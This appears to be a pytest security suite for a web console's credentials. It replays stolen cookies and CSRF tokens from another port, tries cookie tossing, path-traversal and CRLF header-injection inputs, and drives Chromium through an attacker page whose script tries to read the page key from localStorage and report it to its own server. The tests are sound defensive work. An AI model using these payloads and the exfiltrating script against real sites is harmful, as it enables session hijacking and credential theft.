"""Attacks on the console's credentials (7191f46: worker/console/guard.py, forms.py, state.py, static/console.js;
README "### Console"): acting needs the token, or a session cookie *and* the page key the login page's script keeps
in localStorage for this exact origin and sends back in each form; Origin is checked exactly; cookie names carry the
port.

The attacker is another origin on the same host: a server on another port of 127.0.0.1 (or on `localhost`) that
receives the console's cookies from the operator's browser, reads any console page with them (CSRF tokens
included) and replays them with any headers it likes; and that server's pages, running in the operator's browser.
Each test asserts the guarantee; one that fails reproduces a break. The browser tests drive a real headless
Chromium (as tests/console/test_console_browser.py does).
"""

from __future__ import annotations

import json
import re
import secrets
import shutil
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from structlog.testing import capture_logs

from tests.console.consoles import TOKEN, Served, hidden_fields
from tests.console.jobs import finish, make_job
from worker.console.guard import SESSION_COOKIE, Guard
from worker.store.jobs import JobStore

_CSRF = re.compile(r'name="csrf" value="([0-9a-f]+)"')


def _state(store: JobStore, job_id: str) -> str:
    record = store.get(job_id)
    assert record is not None
    return record["state"]


def _stolen(console: Served) -> dict[str, str]:
    """What the operator's browser sends to any other port of 127.0.0.1: every console cookie."""
    return {cookie.name: cookie.value or "" for cookie in console.http.cookies.jar}


def _port(console: Served) -> int:
    port = urlsplit(console.handle.url).port
    assert port
    return port


# == replaying the operator's cookies from another server, with any headers ===========================================


def _header_sets(url: str, port: int) -> dict[str, dict[str, str]]:
    own = url
    return {
        "none": {},
        "forged_origin_and_fetch_site": {"origin": own, "sec-fetch-site": "same-origin"},
        "fetch_site_none": {"sec-fetch-site": "none"},
        "origin_null": {"origin": "null"},
        "referer_of_the_confirm_page": {"referer": f"{own}/actions/cancel?job=victim", "origin": own},
        "host_localhost": {"host": f"localhost:{port}", "origin": f"http://localhost:{port}"},
        "forwarded_https": {"x-forwarded-proto": "https", "x-forwarded-host": f"127.0.0.1:{port}", "origin": own},
        "sec_fetch_user": {"sec-fetch-site": "same-origin", "sec-fetch-mode": "navigate", "sec-fetch-user": "?1"},
    }


HEADER_SETS = list(_header_sets("http://x", 1))


@pytest.mark.parametrize("headers", HEADER_SETS)
@pytest.mark.parametrize("action", ["cancel", "retry", "answer"])
def test_the_operators_cookies_and_csrf_replayed_with_any_headers_act_on_nothing(
    console: Served, store: JobStore, headers: str, action: str
) -> None:
    """HELD. Another port's server holds every console cookie and reads any form's hidden fields (CSRF token, a
    retry's signed new id) with them; whatever headers it sends, without the page key nothing is done."""
    make_job(store, "victim")
    if action == "retry":
        finish(store, "victim", "failed", error="boom")
    assert console.login().status_code == 303
    sent = _header_sets(console.handle.url, _port(console))[headers]
    with httpx.Client(base_url=console.handle.url, trust_env=False, cookies=_stolen(console)) as other:
        page = other.get(f"/actions/{action}?job=victim")
        fields = hidden_fields(page.text)
        assert fields.get("csrf") and fields.get("key") == ""  # the key is never in the page
        for data in (fields, {**fields, "key": ""}, {**fields, "answer": "yes"}, {**fields, "token": ""}):
            refused = other.post(f"/actions/{action}", data=data, headers=sent)
            assert refused.status_code in (403, 421), (refused.status_code, refused.text[:300])
    assert _state(store, "victim") == ("finished" if action == "retry" else "queued")
    assert store.get("victim-retry-1") is None


def test_a_page_key_is_good_only_with_its_own_session(serve: Callable[..., Served], store: JobStore) -> None:
    """HELD. Two logged-in browsers: the cookies of one with the page key of the other act on nothing, nor does a key
    kept from an ended session with a new session's cookies."""
    make_job(store, "k-job")
    first, second = serve(), None
    assert first.login().status_code == 303
    second = Served(first.handle, httpx.Client(base_url=first.handle.url, trust_env=False), first.settings)
    try:
        assert second.login().status_code == 303
        assert first.key != second.key
        crossed = first.act("cancel", "k-job", token=None, key=second.key)
        assert crossed.status_code == 403
        old_key = first.key
        assert first.login().status_code == 303  # a new session in the same browser: the old key ends with it
        assert first.act("cancel", "k-job", token=None, key=old_key).status_code == 403
        assert _state(store, "k-job") == "queued"
        assert first.act("cancel", "k-job", token=None).status_code == 200  # its own key still acts
    finally:
        second.http.close()


def test_login_csrf_from_another_port_plants_no_session_and_ends_none(console: Served, store: JobStore) -> None:
    """HELD. Login CSRF: another port's server posts /login with the operator's own cookies and CSRF token and a key
    of its choosing; with no token, a wrong one or a guess it makes no session (its key never acts), and the
    operator's session keeps acting."""
    make_job(store, "login-csrf")
    assert console.login().status_code == 303
    planted_key = secrets.token_urlsafe(32)
    with httpx.Client(base_url=console.handle.url, trust_env=False, cookies=_stolen(console)) as other:
        csrf = _CSRF.search(other.get("/login").text)
        assert csrf
        for typed in ("", "x" * 16, TOKEN[:-1], TOKEN.upper()):
            data = {"csrf": csrf[1], "token": typed, "key": planted_key}
            answer = other.post("/login", data=data, headers={"origin": console.handle.url})
            assert answer.status_code in (400, 403) and "set-cookie" not in answer.headers
        fields = hidden_fields(other.get("/actions/cancel?job=login-csrf").text)
        assert other.post("/actions/cancel", data={**fields, "key": planted_key}).status_code == 403
    assert _state(store, "login-csrf") == "queued"
    assert console.act("cancel", "login-csrf", token=None).status_code == 200


def test_a_planted_session_cookie_with_a_longer_path_does_not_shadow_or_join_the_operators(
    console: Served, store: JobStore
) -> None:
    """HELD (cookie tossing). Another port can set cookies for 127.0.0.1, also with `Path=/actions`, which the
    browser then sends first. A planted id and session there neither act with the operator's key nor take the place
    of the operator's cookies (Starlette keeps the last of two cookies of one name: the operator's `Path=/` one)."""
    make_job(store, "tossed")
    assert console.login().status_code == 303
    jar = console.http.cookies
    attacker_id = Guard.new_browser_id()
    forged = "0" * 32 + "." + str(int(time.time())) + "." + "f" * 64
    header = "; ".join(
        [
            f"{console.id_cookie}={attacker_id}",
            f"{console.session_cookie}={forged}",
            f"{console.id_cookie}={jar[console.id_cookie]}",
            f"{console.session_cookie}={jar[console.session_cookie]}",
        ]
    )  # the order a browser sends them in: longer paths first
    fields = hidden_fields(console.get("/actions/cancel?job=tossed").text)
    with httpx.Client(base_url=console.handle.url, trust_env=False) as browser:
        acted = browser.post(
            "/actions/cancel", data={**fields, "key": console.key}, headers={"cookie": header}
        )  # the operator's own form: the key is the operator's
        assert acted.status_code == 200, acted.text[:300]
    make_job(store, "tossed-2")
    reversed_header = "; ".join(header.split("; ")[2:] + header.split("; ")[:2])
    fields = hidden_fields(console.get("/actions/cancel?job=tossed-2").text)
    with httpx.Client(base_url=console.handle.url, trust_env=False) as browser:
        refused = browser.post(
            "/actions/cancel", data={**fields, "key": console.key}, headers={"cookie": reversed_header}
        )
        assert refused.status_code == 403  # the planted pair is not a session, whatever key comes with it
    assert _state(store, "tossed-2") == "queued"


# == the page key never leaves the page ================================================================================


def test_the_page_key_is_never_in_a_response_a_header_or_a_log_line(console: Served, store: JobStore) -> None:
    """HELD. Logged in, the page key goes with every action's form; it is in no page, no header (Location,
    Set-Cookie), no event of the stream and no log line, whatever the action did (done, refused, retried, 404)."""
    for job_id in ("leak-a", "leak-b", "leak-c"):
        make_job(store, job_id)
    finish(store, "leak-c", "failed", error="boom")
    with capture_logs() as logs:
        assert console.login().status_code == 303
        key = console.key
        answers = [
            console.act("cancel", "leak-a", token=None),
            console.act("retry", "leak-c", token=None),
            console.act("answer", "leak-b", token=None, answer="an answer"),
            console.act("cancel", "no-such-job", token=None),
            console.http.post("/actions/nope", data={"csrf": console.csrf(), "job": "leak-b", "key": key}),
            console.http.post("/actions/cancel", data={"csrf": "0" * 64, "job": "leak-b", "key": key}),
            console.http.post("/logout", data={"csrf": console.csrf(), "key": key}),
        ]
        for path in ("/", "/jobs", "/jobs/leak-a", "/jobs/leak-c", "/actions/cancel?job=leak-b", "/login", "/x"):
            answers.append(console.get(path))
        chunks: list[str] = []
        try:
            with console.http.stream("GET", "/events", timeout=httpx.Timeout(5, read=1.5)) as stream:
                started = time.monotonic()
                for chunk in stream.iter_text():
                    chunks.append(chunk)
                    if time.monotonic() - started > 1.0:
                        break
        except httpx.ReadTimeout:
            pass  # an idle stream: what came before is read
    texts = [a.text + json.dumps(dict(a.headers)) for a in answers] + ["".join(chunks)]
    assert [a.status_code for a in answers[:3]] == [200, 303, 409], [a.status_code for a in answers[:3]]
    found = [i for i, text in enumerate(texts) if key in text]
    assert not found and key not in repr(logs), f"the page key is in answers {found} or a log line"


# == path, id and Host tricks ==========================================================================================


@pytest.mark.parametrize(
    "path",
    [
        "/jobs/..%2Factions%2Fcancel?job=victim",
        "/jobs/../actions/cancel?job=victim",
        "/jobs/%2e%2e/%2e%2e/actions/cancel?job=victim",
        "/jobs/victim%2F..%2F..%2Flogout",
        "/actions/cancel%2F..%2Fretry?job=victim",
        "/static/..%2F..%2Fconsole%2Fguard.py",
        "/static/%2e%2e/forms.py",
        "/events?job=victim%00",
    ],
)
def test_path_tricks_read_at_most_and_change_nothing(console: Served, store: JobStore, path: str) -> None:
    """HELD. GETs never act, whatever the path spells; a POST to a tricked path is refused like any other."""
    make_job(store, "victim")
    assert console.login().status_code == 303
    if path.startswith("/events"):
        with console.http.stream("GET", path, timeout=5) as answer:
            assert answer.status_code in (200, 400)
    else:
        answer = console.get(path)
        assert answer.status_code in (200, 404, 405), answer.status_code
        assert "def check_action" not in answer.text and "import" not in answer.text[:200]
        posted = console.http.post(path.split("?")[0], data={"csrf": console.csrf(), "job": "victim"})
        assert posted.status_code in (403, 404, 405)
    assert _state(store, "victim") == "queued"


@pytest.mark.parametrize(
    "job_id",
    ["v" * 5000, "\u202evictim", "victim\x00", "victim/../victim", "é" * 300, "%2e%2e", "victim\r\nSet-Cookie: x=1"],
)
def test_very_long_or_odd_job_ids_in_an_action_are_refused_cleanly(
    console: Served, store: JobStore, job_id: str
) -> None:
    """HELD. A logged-in form (cookie and key) naming an odd job id: an ordinary refusal, no 500, no other job
    touched, no header injected."""
    make_job(store, "victim")
    assert console.login().status_code == 303
    data = {"csrf": console.csrf(), "job": job_id, "key": console.key}
    answer = console.http.post("/actions/cancel", data=data)
    assert answer.status_code in (200, 404, 409), (answer.status_code, answer.text[:300])
    assert "x=1" not in answer.headers.get("set-cookie", "")
    assert _state(store, "victim") == "queued"


def test_the_event_stream_gives_another_origin_nothing_to_read_and_sets_nothing(console: Served) -> None:
    """HELD. The SSE endpoint answers a cross-origin request without CORS headers (a page on another port can't read
    it; CORP same-origin) and sets no credential."""
    assert console.login().status_code == 303
    headers = {"origin": "http://127.0.0.1:9", "sec-fetch-site": "same-site", "sec-fetch-mode": "cors"}
    with console.http.stream("GET", "/events", headers=headers, timeout=5) as answer:
        assert answer.status_code == 200
        assert "access-control-allow-origin" not in answer.headers
        assert answer.headers.get("cross-origin-resource-policy") == "same-origin"
        assert "set-cookie" not in answer.headers


def test_cookie_names_carry_the_port_so_two_consoles_keep_apart(serve: Callable[..., Served], store: JobStore) -> None:
    """HELD. Two consoles on one host (the same token): logged in to one, its cookies (which the browser sends to
    both) and its key open nothing on the other."""
    make_job(store, "two")
    one, two = serve(), serve()
    assert one.login().status_code == 303
    assert one.session_cookie != two.session_cookie
    with httpx.Client(base_url=two.handle.url, trust_env=False, cookies=_stolen(one)) as browser:
        page = browser.get("/actions/cancel?job=two").text
        fields = hidden_fields(page)
        assert "logged in" not in page.split("<main>")[0]
        assert browser.post("/actions/cancel", data={**fields, "key": one.key}).status_code == 403
    assert _state(store, "two") == "queued"


# == in a real browser: the pages of another port ======================================================================

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
CHROMEDRIVER = shutil.which("chromedriver") or "/usr/bin/chromedriver"
_MISSING = [path for path in (CHROMIUM, CHROMEDRIVER) if not Path(path).exists()]

_KEY = "cekura-console-page-key"


class Attacker:
    """A server on another port of this host: it serves pages (`pages[path]`, with `{console}` and `{csrf}` filled
    in) and records every request (path, cookies, body), including what its pages send it."""

    def __init__(self, host: str = "127.0.0.1") -> None:
        self.pages: dict[str, str] = {}
        self.seen: list[dict[str, Any]] = []
        self.redirect_to = ""
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def _answer(self) -> None:
                length = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(length) if length else b""
                attacker.seen.append(
                    {"path": self.path, "cookie": self.headers.get("Cookie", ""), "body": body.decode("latin-1")}
                )
                if self.path.startswith("/redirect") and attacker.redirect_to:
                    self.send_response(307)
                    self.send_header("Location", attacker.redirect_to)
                    self.send_header("Content-Length", "0")
                    self.end_headers()
                    return
                page = attacker.pages.get(self.path.split("?")[0], "ok").encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            do_GET = do_POST = _answer

            def log_message(self, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://{host}:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def reports(self) -> list[str]:
        return [s["body"] for s in self.seen if s["path"].startswith("/report")]


def _chromium(profile: Path) -> Any:
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = CHROMIUM
    for argument in (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--no-first-run",
        "--disable-popup-blocking",
        "--window-size=1280,1000",
        f"--user-data-dir={profile}",
    ):
        options.add_argument(argument)
    return webdriver.Chrome(service=Service(executable_path=CHROMEDRIVER), options=options)


@pytest.fixture
def chromium(tmp_path: Path) -> Iterator[Any]:
    if _MISSING:
        pytest.skip(f"no headless browser here ({', '.join(_MISSING)} missing)")
    browser = _chromium(tmp_path / "profile")
    browser.set_page_load_timeout(20)
    try:
        yield browser
    finally:
        browser.quit()


def _login(browser: Any, url: str) -> str:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    browser.get(url + "/login")
    browser.find_element(By.ID, "token").send_keys(TOKEN)
    browser.find_element(By.ID, "login").click()
    WebDriverWait(browser, 15).until(lambda b: b.execute_script(f"return localStorage.getItem('{_KEY}')"))
    key = browser.execute_script(f"return localStorage.getItem('{_KEY}')")
    assert isinstance(key, str) and len(key) >= 32
    return key


#: The attacker's page: every way a page on another port can try to act or to read the key.
_ATTACK_PAGE = """<!doctype html><html><body>
<form id="f" method="post" action="{console}/actions/cancel">
<input name="csrf" value="{csrf}"><input name="job" value="{job}"><input name="key" value="">
</form>
<script>
(async () => {{
  const out = {{}};
  const body = new URLSearchParams({{csrf: "{csrf}", job: "{job}", key: ""}});
  try {{ await fetch("{console}/actions/cancel", {{method: "POST", mode: "no-cors", credentials: "include", body}});
         out.fetch = "sent"; }} catch (e) {{ out.fetch = String(e); }}
  try {{ const r = await fetch("{console}/actions/cancel?job={job}", {{credentials: "include"}});
         out.read = await r.text(); }} catch (e) {{ out.read = "blocked: " + e.name; }}
  const w = window.open("{console}/actions/cancel?job={job}", "victim");
  await new Promise((done) => setTimeout(done, 1500));
  try {{ out.popup_storage = w.localStorage.getItem("{storage_key}"); }}
  catch (e) {{ out.popup_storage = "blocked: " + e.name; }}
  try {{ out.popup_key = w.document.querySelector("input[name=key]").value; }}
  catch (e) {{ out.popup_key = "blocked: " + e.name; }}
  try {{ out.own_storage = localStorage.getItem("{storage_key}"); }} catch (e) {{ out.own_storage = String(e); }}
  try {{ w.close(); }} catch (e) {{}}
  await fetch("/report", {{method: "POST", body: JSON.stringify(out)}});
  document.getElementById("f").submit();  // a top-level form POST, same-site
}})();
</script></body></html>"""

#: A page that posts to its own server, which answers 307 to the console: the browser posts the body again there.
_REDIRECT_PAGE = """<!doctype html><html><body>
<form id="f" method="post" action="/redirect"><input name="csrf" value="{csrf}"><input name="job" value="{job}">
<input name="key" value=""></form><script>document.getElementById("f").submit();</script></body></html>"""


@pytest.mark.slow
@pytest.mark.parametrize("attacker_host", ["127.0.0.1", "localhost"])
def test_a_page_on_another_port_in_the_operators_browser_can_not_act_nor_read_the_key(
    chromium: Any, console: Served, store: JobStore, attacker_host: str
) -> None:
    """HELD. The operator logs in to the console in Chromium, then opens a page of another port of the same host
    (127.0.0.1, or `localhost`). That page's server got the console's cookies (and so reads the CSRF token); the
    page posts the cancel form (fetch no-cors, a top-level form POST, a POST its server redirects with 307), reads
    the console with credentials, opens the console's confirmation page in a window and reaches for its storage
    and its form. Nothing is cancelled and the page key reaches neither the page nor its server."""
    from selenium.webdriver.support.ui import WebDriverWait

    make_job(store, "victim")
    make_job(store, "victim-2")
    key = _login(chromium, console.handle.url)
    attacker = Attacker(attacker_host)
    try:
        chromium.get(attacker.url + "/hello")  # the browser sends the console's cookies here (127.0.0.1 only)
        cookie_sent = attacker.seen[-1]["cookie"]
        if attacker_host == "127.0.0.1":
            assert f"{SESSION_COOKIE}_{_port(console)}" in cookie_sent  # the threat is real: it holds the cookies
        cookies = dict(part.split("=", 1) for part in cookie_sent.split("; ") if "=" in part)
        with httpx.Client(base_url=console.handle.url, trust_env=False, cookies=cookies) as other:
            csrf = hidden_fields(other.get("/actions/cancel?job=victim").text).get("csrf", "0" * 64)
        fill = {"console": console.handle.url, "csrf": csrf, "storage_key": _KEY}
        attacker.pages["/attack"] = _ATTACK_PAGE.format(job="victim", **fill)
        attacker.pages["/redirecting"] = _REDIRECT_PAGE.format(job="victim-2", csrf=csrf)
        attacker.redirect_to = console.handle.url + "/actions/cancel"
        chromium.get(attacker.url + "/attack")
        WebDriverWait(chromium, 20).until(lambda b: attacker.reports())
        time.sleep(1.0)  # the form POST that follows the report
        chromium.get(attacker.url + "/redirecting")
        time.sleep(1.5)
        report = json.loads(attacker.reports()[0])
    finally:
        attacker.stop()
    assert _state(store, "victim") == "queued" and _state(store, "victim-2") == "queued"
    everything = json.dumps(report) + json.dumps(attacker.seen)
    assert key not in everything, f"the page key reached the other port: {report}"
    assert str(report.get("popup_storage", "")).startswith("blocked") or report.get("popup_storage") is None
    assert str(report.get("read", "")).startswith("blocked"), report.get("read", "")[:200]
    if attacker_host != "127.0.0.1":
        return  # a cross-site page's form POST reset the operator's browser id: see the test after this one
    # the operator's own page, in the same browser, still acts: the refusals above were not a broken login
    from selenium.webdriver.common.by import By

    chromium.get(console.handle.url + "/actions/cancel?job=victim")
    chromium.find_element(By.ID, "confirm").click()
    WebDriverWait(chromium, 15).until(lambda b: _state(store, "victim") == "finished")


@pytest.mark.slow
def test_a_link_from_another_site_does_not_log_the_operator_out(chromium: Any, console: Served) -> None:
    """BREAK (availability: any site, no cookie, no script needed). The console's cookies are SameSite=Strict, so a
    navigation from another site (here a plain link on `http://localhost:<port>`, cross-site to 127.0.0.1; equally
    a link in a chat, a wiki or an alert) reaches the console without them. `state.render` then takes the browser
    for a new one and sets a fresh browser-id cookie, which replaces the logged-in browser's own (same name, same
    path): the session cookie, signed with and bound to the old id (`Guard._session`), no longer matches, and the
    operator is logged out, on that page and every one after. README: another *server on the host* logging the
    operator out is a nuisance it accepts; this needs no server on the host at all."""
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    _login(chromium, console.handle.url)
    chromium.get(console.handle.url + "/")
    assert "badge ok" in chromium.page_source  # logged in
    elsewhere = Attacker("localhost")
    try:
        elsewhere.pages["/runbook"] = f'<!doctype html><a id="go" href="{console.handle.url}/jobs">open the console</a>'
        chromium.get(elsewhere.url + "/runbook")
        chromium.find_element(By.ID, "go").click()
        WebDriverWait(chromium, 15).until(lambda b: b.current_url.startswith(console.handle.url))
    finally:
        elsewhere.stop()
    chromium.get(console.handle.url + "/")  # the operator goes on, in the console's own tab
    assert "badge ok" in chromium.page_source, "a link from another site logged the operator out of the console"


@pytest.mark.slow
def test_the_console_can_not_be_framed_by_another_port(chromium: Any, console: Served) -> None:
    """HELD (clickjacking). A page on another port frames the console's confirmation page: the browser refuses to
    render it (frame-ancestors 'none', X-Frame-Options DENY), so no click can land on its button."""
    _login(chromium, console.handle.url)
    attacker = Attacker()
    try:
        attacker.pages["/frame"] = (
            f'<!doctype html><iframe id="t" src="{console.handle.url}/actions/cancel?job=x"></iframe>'
            '<script>setTimeout(() => { let v; try { v = document.getElementById("t").contentWindow.length; }'
            ' catch (e) { v = "err"; } fetch("/report", {method: "POST", body: String(v)}); }, 1500);</script>'
        )
        chromium.get(attacker.url + "/frame")
        deadline = time.monotonic() + 10
        while not attacker.reports() and time.monotonic() < deadline:
            time.sleep(0.1)
        frames = attacker.reports()
    finally:
        attacker.stop()
    # A blocked frame shows Chromium's error page, which has no frames and no form: `length` is 0 either way, so
    # the real check is the header on every answer (tests/console/test_attack_console.py) plus this: the frame's
    # document is not the console's (a same-origin read would have worked had it been served into the frame).
    assert frames, "the framing page never reported"
    answer = httpx.get(f"{console.handle.url}/actions/cancel?job=x", trust_env=False)
    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
    assert answer.headers["x-frame-options"] == "DENY"


def test_the_form_fields_of_a_login_never_carry_the_token_back(console: Served) -> None:
    """HELD. A refused login answers without the typed token, the key or a cookie other than the browser id."""
    console.csrf()
    key = secrets.token_urlsafe(32)
    answer = console.http.post("/login", data={"csrf": console.csrf(), "token": TOKEN + "x", "key": key})
    assert answer.status_code == 403
    assert key not in answer.text and TOKEN not in answer.text
    assert SESSION_COOKIE not in answer.headers.get("set-cookie", "")
